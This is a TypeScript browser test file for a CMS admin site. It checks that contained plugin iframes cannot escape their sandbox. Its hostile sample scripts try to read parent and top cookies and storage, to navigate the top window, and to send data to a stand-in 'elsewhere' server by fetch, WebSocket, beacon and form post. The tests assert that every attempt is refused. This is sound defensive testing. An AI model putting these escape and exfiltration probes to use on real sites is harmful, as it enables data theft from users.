// Frames of contained plugins in a browser: what they show, and what they cannot do.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AxeResults } from 'axe-core';
import { SYSTEM } from 'galley';
import { until } from 'galley/testing';
import type { Frame, Page } from 'playwright-core';
import { chromiumMissing } from '../support/chromium.ts';
import { writePlugins } from '../support/contained-plugins.ts';
import { type AdminSite, AXE, startAdminSite, violationsInBoth } from './admin-visitor.ts';

/** Tries every door, and shows for each what came of it. */
const THIEF = `function globalThis() {}
if (parent !== top) parent.postMessage({ calls: typeof RTCPeerConnection }, '*');
galley.onData(async ({ elsewhere }) => {
  const tries = {
    parent: () => parent.document.title,
    top: () => top.document.cookie,
    cookies: () => document.cookie,
    storage: () => localStorage.length,
    leadsTop: () => { top.location = elsewhere; },
    opens: () => { if (open(elsewhere) === null) throw new Error('no window'); },
    fetches: () => fetch(elsewhere, { mode: 'no-cors' }),
    fetchesSite: () => fetch('/admin/api/commands'),
    asks: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', '/admin');
      request.onload = resolve;
      request.onerror = reject;
      request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    events: () => new Promise((resolve, reject) => {
      const source = new EventSource(elsewhere);
      source.onopen = resolve;
      source.onerror = reject;
    }),
    picture: () => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = elsewhere + '?picture';
    }),
    script: () => import(elsewhere + '/script.js'),
    text: () => (0, eval)('1'),
    inline: () => new Promise((resolve, reject) => {
      document.addEventListener('securitypolicyviolation', reject, { once: true });
      addEventListener('error', reject, { once: true });
      window.resolveInline = resolve;
      const box = document.createElement('div');
      box.innerHTML = '<img src="data:," onerror="resolveInline()">';
      document.body.append(box);
    }),
    worker: () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
    calls: () => new RTCPeerConnection(),
    freshWindow: () => {
      const inner = document.createElement('iframe');
      document.body.append(inner);
      return new inner.contentWindow.RTCPeerConnection();
    },
    freshDocument: () => new Promise((resolve, reject) => {
      const inner = document.createElement('iframe');
      inner.srcdoc = '<script>' + document.scripts[0].textContent + '</' + 'script>';
      addEventListener('message', ({ source, data }) => {
        if (source === inner.contentWindow && data.calls) (data.calls === 'undefined' ? reject : resolve)();
      });
      document.body.append(inner);
    }),
    form: () => new Promise((resolve, reject) => {
      const form = document.createElement('form');
      form.action = elsewhere + '/form';
      form.method = 'post';
      document.body.append(form);
      addEventListener('pagehide', resolve);
      form.submit();
      setTimeout(reject, 200);
    }),
  };
  const outcomes = await Promise.all(Object.entries(tries).map(async ([name, run]) => {
    try {
      await run();
      return name + ': done';
    } catch {
      return name + ': refused';
    }
  }));
  navigator.sendBeacon(elsewhere + '?beacon');
  const list = document.createElement('pre');
  list.id = 'outcomes';
  list.textContent = outcomes.join('\\n');
  document.body.append(list);
});
`;

/** Leads itself away with what it knows. */
const RUNAWAY = `galley.onData(({ elsewhere }) => { location.href = elsewhere + '?told=secret'; });
`;
/** Leads itself to a screen of the admin, as whoever looks. */
const INTRUDER = `galley.onData(() => { location.href = '/admin/users'; });
`;
/** Says what no number is, and numbers out of all measure. */
const GIANT = `galley.onData(() => {
  for (const height of ['1e9px', NaN, Infinity, -5, {}, 1e9]) parent.postMessage({ galley: 'height', height }, '*');
  parent.postMessage(null, '*');
  parent.postMessage({ galley: 'show', data: 'mine' }, '*');
  document.body.append('said');
});
`;

const SCRIPTS = { thief: THIEF, runaway: RUNAWAY, intruder: INTRUDER, giant: GIANT };

describe('frames of contained plugins in a browser', { skip: chromiumMissing() }, () => {
  let admin: AdminSite;
  let elsewhere: Server;
  let address = '';
  const reached: string[] = [];

  before(async () => {
    elsewhere = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end('there');
    });
    elsewhere.on('upgrade', (request, socket) => {
      reached.push(request.url ?? '');
      socket.destroy();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const names = Object.keys(SCRIPTS);
    const hostile = writePlugins([
      {
        name: 'hostile',
        capabilities: ['frames'],
        contained: {
          frames: Object.fromEntries(names.map((name) => [name, { script: `${name}.js` }])),
          panels: Object.fromEntries(names.map((name) => [name, { title: name }])),
        },
        handlers: `panels: { ${names
          .map(
            (name) => `${name}: () => ({ blocks: [{ kind: 'frame', name: '${name}', title: 'A ${name}',
            data: { elsewhere: '${address}' } }] })`,
          )
          .join(', ')} }`,
        files: Object.fromEntries(Object.entries(SCRIPTS).map(([name, script]) => [`${name}.js`, script])),
      },
    ]);
    admin = await startAdminSite({
      plugins: ['posts', 'blocks', 'dashboard', 'users', 'social-card', 'hostile'],
      pluginFolders: [join(import.meta.dirname, '../../docs/examples'), hostile],
    });
    Object.assign(admin.current.site.contained.limits, { hookWaitMs: 20_000, deadlineMs: 20_000 });
    await admin.current.site.entries.save(
      { type: 'post', status: 'publish', title: 'Ink & paper', excerpt: '<b>What</b> one needs.' },
      { viewer: SYSTEM },
    );
  });
  after(async () => {
    await admin?.stop();
    elsewhere?.close();
  });

  /** The document in the frame of a panel. */
  async function frameOf(page: Page): Promise<Frame> {
    const found = await (await page.waitForSelector('iframe.panel-frame')).contentFrame();
    assert.ok(found);
    return found;
  }

  test('a frame shows what its panel said, as high as it needs, in the colours of the day and of the night', async () => {
    const { page, complaints, open, close } = await admin.enter();
    await open('/admin/plugin/social-card/overview');
    await page.locator('iframe.panel-frame').scrollIntoViewIfNeeded();
    const frame = await frameOf(page);
    await frame.waitForSelector('article h2');
    assert.equal(await frame.textContent('article h2'), 'Ink & paper');
    assert.equal(await frame.getAttribute('html', 'lang'), await page.getAttribute('html', 'lang'));
    const height = () => page.locator('iframe.panel-frame').evaluate((element) => element.clientHeight);
    const needed = await frame.evaluate(() => document.documentElement.offsetHeight);
    await until(async () => (await height()) === Math.max(40, Math.ceil(needed)));
    assert.deepEqual(await violationsInBoth(page), []);
    const barriers = await frame.evaluate(`${AXE}; axe.run({ resultTypes: ['violations'] })`);
    const own = (barriers as AxeResults).violations.map(({ id }) => id);
    // The page around it has the landmarks and its heading of the first level.
    assert.deepEqual(
      own.filter((id) => !['region', 'page-has-heading-one', 'landmark-one-main'].includes(id)),
      [],
    );
    const color = () => frame.evaluate(() => getComputedStyle(document.documentElement).color);
    const day = await color();
    await page.emulateMedia({ colorScheme: 'dark' });
    await until(async () => (await color()) !== day);
    assert.deepEqual(complaints, []);
    await close();
  });

  test('one that tries every door reads nothing, reaches nobody and leads nobody away', async () => {
    const { page, open, close } = await admin.enter();
    await open('/admin/plugin/hostile/thief');
    const frame = await frameOf(page);
    await frame.waitForSelector('#outcomes', { state: 'attached' });
    const outcomes = ((await frame.textContent('#outcomes')) ?? '').split('\n');
    assert.ok(outcomes.length > 15);
    assert.deepEqual(
      outcomes.filter((outcome) => !outcome.endsWith(': refused')),
      [],
    );
    assert.equal(page.url(), `${admin.origin}/admin/plugin/hostile/thief`);
    assert.equal(page.context().pages().length, 1);
    assert.deepEqual(reached, []);
    await close();
  });

  for (const [name, why] of [
    ['runaway', 'to another site with what it was told'],
    ['intruder', 'to a screen of the admin'],
  ] as const) {
    test(`one that leads itself ${why} comes nowhere`, async () => {
      const { page, open, close } = await admin.enter();
      const answers: string[] = [];
      page.on('response', (response) => answers.push(new URL(response.url()).pathname));
      const isBlocked = /frame-src/;
      const blocked = page.waitForEvent('console', (message) => isBlocked.test(message.text()));
      await open(`/admin/plugin/hostile/${name}`);
      await blocked;
      assert.deepEqual(reached, []);
      assert.ok(answers.includes(`/admin/plugin-frames/hostile/${name}`));
      assert.ok(!answers.includes('/admin/users'));
      await close();
    });
  }

  test('what it says of its height is held within bounds', async () => {
    const { page, open, close } = await admin.enter();
    await open('/admin/plugin/hostile/giant');
    const element = page.locator('iframe.panel-frame');
    const frame = await frameOf(page);
    await frame.waitForFunction(() => document.body.textContent?.includes('said'));
    await until(async () => ((await element.getAttribute('height')) ?? '') !== '320');
    const heights = await element.evaluate(
      (one) =>
        new Promise<number[]>((resolve) => {
          const seen = [Number(one.getAttribute('height'))];
          requestAnimationFrame(() => resolve([...seen, Number(one.getAttribute('height'))]));
        }),
    );
    assert.ok(heights.every((height) => height >= 40 && height <= 4000));
    await close();
  });
});
